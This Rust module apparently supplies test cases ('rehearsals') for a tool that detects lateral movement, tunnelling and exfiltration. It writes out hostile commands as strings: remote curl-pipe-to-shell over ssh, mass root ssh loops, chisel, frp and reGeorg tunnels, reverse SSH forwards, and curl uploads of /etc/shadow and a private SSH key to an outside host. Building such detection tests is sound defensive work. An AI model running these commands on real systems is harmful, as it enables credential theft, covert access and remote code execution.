//! Tunnels, and commands sent to other machines.

use super::props::ACT;
use super::servers::Service;
use super::stage::Stage;
use super::{KeyNeeds, KeyRehearsal, RehearsalError, run, shell};

const ONE_LINER: &str = "proc.ssh_one_liner";
const HTTP: &str = "proc.http_tunnel";
const SSH: &str = "proc.ssh_tunnel";

pub(super) const SSH_ONE_LINER: &[KeyRehearsal] = &[
    shell(
        ONE_LINER,
        "one-liner-no-checking",
        "a command for another machine, whose key is not checked",
        KeyNeeds::NOTHING,
        "ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@10.20.0.9 'curl -s http://203.0.113.7/i.sh | sh'",
    ),
    shell(
        ONE_LINER,
        "one-liner-batch",
        "a command for another machine in batch mode, without a terminal",
        KeyNeeds::NOTHING,
        "ssh -T -oBatchMode=yes -oConnectTimeout=5 deploy@10.20.0.10 uptime",
    ),
    shell(
        ONE_LINER,
        "one-liner-mass",
        "the same command for many machines",
        KeyNeeds::NOTHING,
        "for host in 11 12 13 14 15 16 17 18; do ssh -oStrictHostKeyChecking=no -oBatchMode=yes root@10.20.0.$host 'nohup /tmp/run &'; done",
    ),
    shell(
        ONE_LINER,
        "one-liner-sshpass",
        "a command for another machine with a password in the arguments",
        KeyNeeds::NOTHING,
        "sshpass -p secret ssh -o StrictHostKeyChecking=no root@10.20.0.9 id; ssh -oStrictHostKeyChecking=no root@10.20.0.9 id",
    ),
];

pub(super) const HTTP_TUNNEL: &[KeyRehearsal] = &[
    shell(
        HTTP,
        "http-tunnel-chisel",
        "chisel, by its name and arguments",
        KeyNeeds::NOTHING,
        "chisel client https://203.0.113.60:443 R:1080:socks",
    ),
    shell(
        HTTP,
        "http-tunnel-tools",
        "frp, ngrok and httptunnel, by their names and arguments",
        KeyNeeds::NOTHING,
        "frpc -c /tmp/frpc.ini; ngrok http 8080; htc -F 2222 203.0.113.60:80",
    ),
    shell(
        HTTP,
        "http-tunnel-georg",
        "reGeorg's clients, by their names and arguments",
        KeyNeeds::NOTHING,
        "python3 reGeorgSocksProxy.py -p 8080 -u http://203.0.113.60/tunnel.jsp; python3 neoreg.py -k pass -u http://203.0.113.60/t.php",
    ),
    run(
        HTTP,
        "http-tunnel-connect",
        "CONNECT, then megabytes to the other side",
        KeyNeeds::NETWORK,
        |stage| {
            let head = "CONNECT 203.0.113.61:443 HTTP/1.1\\r\\nHost: 203.0.113.61\\r\\n\\r\\n";
            tunnel(stage, "HTTP/1.1 200 Connection established\r\n\r\n", head)
        },
    ),
    run(
        HTTP,
        "http-tunnel-upgrade",
        "an upgraded connection, then megabytes to the other side",
        KeyNeeds::NETWORK,
        |stage| {
            let head = "GET /t HTTP/1.1\\r\\nHost: x\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Protocol: chisel-v3\\r\\n\\r\\n";
            tunnel(stage, "HTTP/1.1 101 Switching Protocols\r\n\r\n", head)
        },
    ),
    shell(
        HTTP,
        "http-tunnel-curl-archive",
        "curl uploads an archive",
        KeyNeeds::NOTHING,
        "curl -T /tmp/backup.tar.gz http://203.0.113.60/up/",
    ),
    shell(
        HTTP,
        "http-tunnel-curl-credentials",
        "curl uploads passwords and keys",
        KeyNeeds::NOTHING,
        "curl -s --data-binary @/etc/shadow http://203.0.113.60/; curl -F file=@/root/.ssh/id_rsa http://203.0.113.60/",
    ),
];

pub(super) const SSH_TUNNEL: &[KeyRehearsal] = &[
    shell(
        SSH,
        "ssh-tunnel-remote",
        "ssh forwards a port from the other side",
        KeyNeeds::NOTHING,
        "ssh -fN -R 2222:127.0.0.1:22 tunnel@203.0.113.70",
    ),
    shell(
        SSH,
        "ssh-tunnel-local",
        "ssh forwards a port to the other side",
        KeyNeeds::NOTHING,
        "ssh -N -L 0.0.0.0:5432:10.20.0.9:5432 tunnel@203.0.113.70",
    ),
    shell(
        SSH,
        "ssh-tunnel-dynamic",
        "ssh serves as a proxy",
        KeyNeeds::NOTHING,
        "ssh -qTfnN -D 1080 tunnel@203.0.113.70",
    ),
    shell(
        SSH,
        "ssh-tunnel-device",
        "ssh makes a network device",
        KeyNeeds::NOTHING,
        "ssh -w 0:0 root@203.0.113.70",
    ),
    shell(
        SSH,
        "ssh-tunnel-tools",
        "autossh, sshuttle and dropbear's client",
        KeyNeeds::NOTHING,
        "autossh -M 0 -N -R 2222:localhost:22 tunnel@203.0.113.70; sshuttle -r tunnel@203.0.113.70 10.0.0.0/8; \
         dbclient -N -R 2222:127.0.0.1:22 tunnel@203.0.113.70",
    ),
];

/// Megabytes over a connection that a proxy answered for.
fn tunnel(stage: &mut Stage, answer: &'static str, head: &str) -> Result<(), RehearsalError> {
    let container = stage.start(&stage.options())?;
    let peer = stage.peer(&container)?;
    peer.serve(8080, Service::Banner(answer))?;
    let argv = [ACT, "upload", "203.0.113.61", "8080", head, "6000000"];
    stage.act(&container, &argv, "")?;
    peer.expect("megabytes", |heard| heard.length > 5_000_000)
}
